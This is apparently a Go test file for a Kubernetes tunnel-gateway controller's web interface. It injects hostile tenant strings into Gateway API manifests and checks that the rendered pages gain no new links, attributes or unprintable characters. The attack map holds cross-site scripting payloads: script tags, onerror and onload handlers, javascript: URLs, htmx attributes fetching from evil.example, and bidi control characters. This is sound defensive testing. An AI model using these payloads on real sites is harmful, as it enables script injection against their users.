package web

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/url"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/tunnel-gateway/tunnel-gateway/internal/config"
	"github.com/tunnel-gateway/tunnel-gateway/internal/gateway"
	"github.com/tunnel-gateway/tunnel-gateway/internal/manifest"
	"github.com/tunnel-gateway/tunnel-gateway/internal/plan"
	"github.com/tunnel-gateway/tunnel-gateway/internal/state"
)

// marker stands in hostileManifests wherever a tenant's text can be.
const marker = "zz"

// hostileManifests have both data planes, all kinds, and many kinds of problems.
const hostileManifests = `
apiVersion: gateway.networking.k8s.io/v1
kind: GatewayClass
metadata: {name: cloudflare-tunnel}
spec: {controllerName: tunnelgateway.dev/controller}
---
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {name: zz-rules, namespace: zz-infra, annotations: {tunnelgateway.dev/zz: zz, zz: zz}}
spec:
  gatewayClassName: cloudflare-tunnel
  allowedListeners: {namespaces: {from: All}}
  listeners:
  - {name: zz-shop, port: 80, protocol: HTTP, hostname: shop.zz.example.com, allowedRoutes: {namespaces: {from: All}}}
  - {name: zz-any, port: 80, protocol: HTTP, allowedRoutes: {namespaces: {from: All}}}
  - {name: zz-tls, port: 443, protocol: HTTPS, hostname: tls.zz.example.com, tls: {certificateRefs: [{name: zz-missing}]}}
  - {name: zz-udp, port: 53, protocol: UDP}
---
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {name: zz-envoy, namespace: zz-infra}
spec:
  gatewayClassName: cloudflare-tunnel
  infrastructure: {parametersRef: {group: tunnelgateway.dev, kind: TunnelConfiguration, name: zz-envoy}}
  listeners:
  - {name: zz-shop, port: 80, protocol: HTTP, hostname: shop.zz.example.com, allowedRoutes: {namespaces: {from: All}}}
  - {name: zz-wild, port: 80, protocol: HTTP, hostname: "*.zz.example.com", allowedRoutes: {namespaces: {from: All}}}
---
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {name: zz-broken, namespace: zz-infra}
spec:
  gatewayClassName: cloudflare-tunnel
  infrastructure: {parametersRef: {group: tunnelgateway.dev, kind: TunnelConfiguration, name: zz-none}}
  listeners: [{name: zz-shop, port: 80, protocol: HTTP, hostname: broken.zz.example.com}]
---
apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {name: zz-external, namespace: zz-infra}
spec:
  gatewayClassName: zz-class
  listeners: [{name: zz-shop, port: 80, protocol: HTTP, hostname: shop.zz.example.com}]
---
apiVersion: tunnelgateway.dev/v1alpha1
kind: TunnelConfiguration
metadata: {name: zz-envoy, namespace: zz-infra}
spec:
  dataPlane: Envoy
  listenerConfigurations:
  - {protocolPort: "*", hostname: shop.zz.example.com, access: {required: true, teamName: zz, audTags: [zz]}}
---
apiVersion: tunnelgateway.dev/v1alpha1
kind: AccessPolicy
metadata: {name: zz-policy, namespace: zz-infra}
spec:
  targetRefs: [{group: gateway.networking.k8s.io, kind: Gateway, name: zz-rules, sectionName: zz-shop}]
  policies: [zz-employees]
---
apiVersion: gateway.networking.k8s.io/v1
kind: ListenerSet
metadata: {name: zz-set, namespace: zz-team}
spec:
  parentRef: {name: zz-rules, namespace: zz-infra}
  listeners:
  - {name: zz-own, port: 80, protocol: HTTP, hostname: team.zz.example.com}
  - {name: zz-taken, port: 80, protocol: HTTP, hostname: shop.zz.example.com}
---
apiVersion: gateway.networking.k8s.io/v1
kind: ListenerSet
metadata: {name: zz-refused, namespace: zz-team}
spec:
  parentRef: {name: zz-envoy, namespace: zz-infra}
  listeners: [{name: zz-own, port: 80, protocol: HTTP, hostname: refused.zz.example.com}]
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: zz-route, namespace: zz-team, annotations: {zz: zz}}
spec:
  hostnames: [shop.zz.example.com, deep.zz.example.com]
  parentRefs: [{name: zz-rules, namespace: zz-infra}, {name: zz-envoy, namespace: zz-infra, sectionName: zz-shop}]
  rules:
  - name: zz-first
    matches:
    - path: {type: RegularExpression, value: /zz.*}
      headers: [{name: x-zz, value: zz}, {name: x-regex, type: RegularExpression, value: zz+}]
      queryParams: [{name: q-zz, value: zz}]
      method: POST
    filters:
    - {type: RequestHeaderModifier, requestHeaderModifier: {set: [{name: x-zz, value: zz}], remove: [x-zz-old]}}
    - {type: URLRewrite, urlRewrite: {hostname: zz.internal, path: {type: ReplaceFullPath, replaceFullPath: /zz}}}
    backendRefs: [{name: zz-web, port: 80, weight: 9}, {name: zz-gone, port: 80, weight: 1}]
  - matches: [{path: {value: /old/zz}}]
    filters: [{type: RequestRedirect, requestRedirect: {hostname: zz.example.org, path: {type: ReplaceFullPath, replaceFullPath: /zz}}}]
  - backendRefs: [{name: zz-web, port: 80}]
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: zz-plain, namespace: zz-team}
spec:
  parentRefs: [{name: zz-rules, namespace: zz-infra, sectionName: zz-any}, {kind: ListenerSet, name: zz-set}, {name: zz-nowhere}, {name: zz-rules, namespace: zz-infra, sectionName: zz-nothing}]
  rules:
  - {matches: [{path: {value: /zz}}], backendRefs: [{name: zz-web, port: 80}]}
  - {matches: [{path: {value: /zz}}], backendRefs: [{name: zz-web, port: 80}]}
---
apiVersion: gateway.networking.k8s.io/v1
kind: GRPCRoute
metadata: {name: zz-calls, namespace: zz-team}
spec:
  hostnames: [calls.zz.example.com]
  parentRefs: [{name: zz-envoy, namespace: zz-infra}]
  rules: [{matches: [{method: {service: zz, method: zz}}], backendRefs: [{name: zz-web, port: 80}]}]
---
{apiVersion: v1, kind: Service, metadata: {name: zz-web, namespace: zz-team, annotations: {zz: zz}}, spec: {ports: [{name: zz, port: 80}]}}
---
{apiVersion: v1, kind: Namespace, metadata: {name: zz-team, labels: {zz: zz}}}
---
{apiVersion: v1, kind: Namespace, metadata: {name: zz-infra}}
`

// attacks are texts in place of the marker. What matters at the beginning of an attribute is
// alone, and the other attacks are together, to save time.
var attacks = map[string]string{
	"scheme": "javascript:alert(1)//",
	"host":   "//evil.example/\\@evil.example",
	"markup": strings.Join([]string{
		`<script>alert(1)</script>`,
		`"><img src=x onerror=alert(1)>`,
		`' onfocus='alert(1)' autofocus='`,
		`{{.}}{{"{{"}}`,
		`--></title></style></textarea></script><svg/onload=alert(1)>`,
		`<hx-partial hx-target="body"><template hx type="partial">`,
		`" hx-get="//evil.example" hx-trigger="load" hx-on:load="alert(1)`,
		"&lt;script&gt;&#x202e;&amp;",
	}, " "),
	"unprintable": "a\u202eb\u2066c\u200fd\ufeffe nul\x00esc\x1b[2Jdel\x7fc1\u009b line\nbreak\r\ttab\u2028separator\u2029 \xff\xfe invalid",
	"long":        strings.Repeat("long", 500),
}

// replaceMarker returns the object with the text in place of the marker.
func replaceMarker(t *testing.T, object client.Object, text string) client.Object {
	t.Helper()
	before, err := json.Marshal(object)
	if err != nil {
		t.Fatal(err)
	}
	quoted, err := json.Marshal(text)
	if err != nil {
		t.Fatal(err)
	}
	after := reflect.New(reflect.TypeOf(object).Elem()).Interface().(client.Object)
	if err := json.Unmarshal([]byte(strings.ReplaceAll(string(before), marker, strings.Trim(string(quoted), `"`))), after); err != nil {
		t.Fatal(err)
	}
	return after
}

// attackedPlan returns the plan for hostileManifests with the text in place of the marker, in
// objects that no API server has validated.
func attackedPlan(t *testing.T, text string) *plan.Plan {
	t.Helper()
	o := plan.Options{Options: gateway.Options{ControllerName: config.DefaultControllerName, ControllerNamespace: "tunnel-gateway", ClusterDomain: "cluster.local"}}
	read, err := state.FromFiles([]string{"-"}, manifest.Options{Stdin: strings.NewReader(hostileManifests)}, o.ControllerName, config.DefaultClassName)
	if err != nil {
		t.Fatal(err)
	}
	var objects []client.Object
	for _, object := range read.Objects {
		objects = append(objects, replaceMarker(t, object, text))
	}
	for _, object := range objects {
		if n, ok := object.(*corev1.Namespace); ok {
			n.Labels = map[string]string{corev1.LabelMetadataName: n.Name}
		}
	}
	memory, err := state.NewMemory(objects, state.Indexes(o.ControllerName))
	if err != nil {
		t.Fatal(err)
	}
	p, err := plan.Build(t.Context(), &state.Source{
		Reader: memory, Objects: objects, Certificates: state.NewPermittedCertificates(memory), HasManifests: true,
	}, o, now)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestTextsOfTenantsCannotAddAnything(t *testing.T) {
	harmless, _ := crawl(t, attackedPlan(t, marker), marker)
	for _, thing := range slices.Sorted(maps.Keys(harmless)) {
		if strings.Contains(thing, "=") && !strings.Contains(thing, "=///") && !strings.Contains(thing, " hx-") && !strings.HasSuffix(thing, "=#") {
			t.Errorf("%s: the harmless page %s has an address elsewhere", thing, harmless[thing])
		}
	}
	for name, attack := range attacks {
		t.Run(name, func(t *testing.T) {
			found, bodies := crawl(t, attackedPlan(t, attack), attack)
			for thing, page := range found {
				if _, ok := harmless[thing]; !ok {
					t.Errorf("%s is on %.200s", thing, page)
				}
			}
			for page, body := range bodies {
				checkPrintable(t, page, body)
			}
		})
	}
}

func checkPrintable(t *testing.T, page, body string) {
	t.Helper()
	for at, r := range body {
		if r != '\n' && r != '\t' && !strconv.IsPrint(r) {
			t.Errorf("%.200s has %q after %q", page, r, body[max(0, at-60):at])
			return
		}
	}
}

func TestDirectionOfTextIsVisible(t *testing.T) {
	_, bodies := crawl(t, attackedPlan(t, "a\u202eb"), "a\u202eb")
	for _, page := range []string{"/", "/hostnames", "/picture?namespace=" + url.QueryEscape("a\u202eb-team")} {
		if body, ok := bodies[page]; !ok || !strings.Contains(body, `a\u202eb`) {
			t.Errorf("%s does not show the character: %s", page, fmt.Sprintf("%.300s", body))
		}
	}
}
